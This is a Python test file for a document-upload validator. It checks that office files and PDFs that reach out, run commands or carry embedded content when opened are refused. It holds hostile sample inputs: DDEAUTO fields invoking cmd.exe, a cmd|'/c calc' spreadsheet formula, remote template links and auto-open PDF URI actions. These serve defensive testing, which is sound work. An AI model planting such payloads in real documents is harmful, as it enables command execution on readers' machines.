"""What a file may not bring: anything that acts when it is opened, reaches out, or carries something else along."""

import io
import zipfile
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path
from types import MappingProxyType

import pikepdf
import pytest

from docs_templates.received.uploads import UploadRefused, receive

AT = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD: Mapping[str, str] = MappingProxyType({"word/document.xml": "<w:document><w:p><w:t>正文</w:t></w:p></w:document>"})
BOOK: Mapping[str, str] = MappingProxyType({"xl/workbook.xml": "<workbook/>"})


@pytest.fixture(autouse=True)
def _own_archive(settings: object, tmp_path: Path) -> None:
    settings.ARCHIVE_ROOT = tmp_path / "archive"  # type: ignore[attr-defined]


def said_of(data: bytes) -> str:
    """Return why a file is refused, empty when it comes in."""
    try:
        receive(data=data, at=AT)
    except UploadRefused as refused:
        return str(refused)
    return ""


def office(kind: Mapping[str, str], **more: str) -> bytes:
    """Return an office file with further parts: `word__x_dot_xml="…"`."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as container:
        for name, text in {**kind, **more}.items():
            container.writestr(name.replace("__", "/").replace("_dot_", "."), text)
    return target.getvalue()


def relation(sort: str, target: str, mode: str = ' TargetMode="External"') -> str:
    """Return a part that names one relation."""
    return f'<Relationships><Relationship Id="a" Type="{RELATIONS}/{sort}" Target="{target}"{mode}/></Relationships>'


def field(*runs: str) -> str:
    """Return a document with one field whose instruction is cut into these runs."""
    words = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    return (
        f'<w:document><w:p><w:fldChar w:fldCharType="begin"/>{words}<w:fldChar w:fldCharType="end"/></w:p></w:document>'
    )


@pytest.mark.parametrize(
    "data",
    [
        office(WORD, word___rels__settings_dot_xml_dot_rels=relation("attachedTemplate", "http://x.example/t.dotm")),
        office(WORD, word___rels__document_dot_xml_dot_rels=relation("image", "\\\\10.0.0.1\\share\\a.png")),
        office(WORD, word___rels__settings_dot_xml_dot_rels=relation("attachedTemplate", "t").replace('"', "'")),
        office({"word/document.xml": field(r"DDEAUTO c:\\windows\\cmd.exe")}),
        office({"word/document.xml": field(" D", "D", "E ", "Excel")}),
        office({"word/document.xml": field("QUOTE 68 68 69 65")}),
        office({"word/document.xml": field(' INCLUDEPICTURE "http://x.example/a.png"')}),
        office({"word/document.xml": '<w:fldSimple w:instr=" DDE Excel"/>'}),
        office(BOOK, xl__worksheets__sheet1_dot_xml="<c><f>cmd|'/c calc'!A1</f></c>"),
        office(BOOK, xl__worksheets__sheet1_dot_xml="<c><f>WEBSERVICE(&quot;http://x.example&quot;)</f></c>"),
        office(BOOK, xl__externalLinks__externalLink1_dot_xml="<externalLink><ddeLink/></externalLink>"),
        office(BOOK, xl__connections_dot_xml="<connections/>"),
        office({"OFD.xml": '<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://x"/></ofd:Action></ofd:Actions>'}),
    ],
)
def test_an_office_file_that_reaches_out_when_it_is_opened_is_refused(data: bytes) -> None:
    assert "请断开链接" in said_of(data)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (office(BOOK, xl__macrosheets__sheet1_dot_xml="<a/>"), "宏"),
        (office(WORD, **{"[Content_Types].xml": '<Override ContentType="x.macroEnabled.main+xml"/>'}), "宏"),
        (office(WORD, word__media__a_dot_exe="MZ"), "宏或可执行内容"),
        (office(WORD, word__embeddings__oleObject1_dot_bin="x"), "内嵌了其他对象"),
        (office(WORD, word___rels__document_dot_xml_dot_rels=relation("aFChunk", "a.mht", "")), "内嵌了其他对象"),
    ],
)  # fmt: skip
def test_an_office_file_that_carries_something_else_is_refused(data: bytes, said: str) -> None:
    assert said in said_of(data)


@pytest.mark.django_db
def test_what_offices_write_every_day_comes_in() -> None:
    link = relation("hyperlink", "http://www.example.gov.cn/")
    fields = field(" PAGE ", r"\* MERGEFORMAT") + field(' HYPERLINK "http://x.example/dde LINK"') + field(" TOC ")
    assert said_of(office({"word/document.xml": fields}, word___rels__document_dot_xml_dot_rels=link)) == ""
    sheet = '<c><f>SUM(B2:B9)</f></c><c><f>IF(A1="甲|乙",1,2)</f></c>'
    assert said_of(office(BOOK, xl__worksheets__sheet1_dot_xml=sheet)) == ""


def pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """Return a PDF of one page after a change."""
    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        made.save(target)
    return target.getvalue()


def _opens_an_address(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://x.example/")


def _opens_one_afterwards(made: pikepdf.Pdf) -> None:
    then = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://x.example/"))
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[made.pages[0].obj], Next=pikepdf.Array([then]))


def _draws_from_outside(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F="\\\\10.0.0.1\\share\\a")


def _goes_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="b.pdf"))])


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_opens_an_address, "自动访问网址"), (_opens_one_afterwards, "自动访问网址"),
        (_draws_from_outside, "文件以外的内容"), (_goes_elsewhere, "GoToR"),
    ],
)  # fmt: skip
def test_a_pdf_that_opens_or_fetches_something_by_itself_is_refused(
    change: Callable[[pikepdf.Pdf], None], said: str
) -> None:
    assert said in said_of(pdf(change))


def _turns_to_a_page(made: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://x"))
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([made.pages[0].obj]))
    made.pages[0].Annots = pikepdf.Array([link])


@pytest.mark.django_db
def test_a_pdf_that_turns_to_its_page_and_has_links_comes_in() -> None:
    assert said_of(pdf(_turns_to_a_page)) == ""
    assert said_of(pdf(lambda made: made.Root.__setattr__("OpenAction", pikepdf.Array([made.pages[0].obj])))) == ""
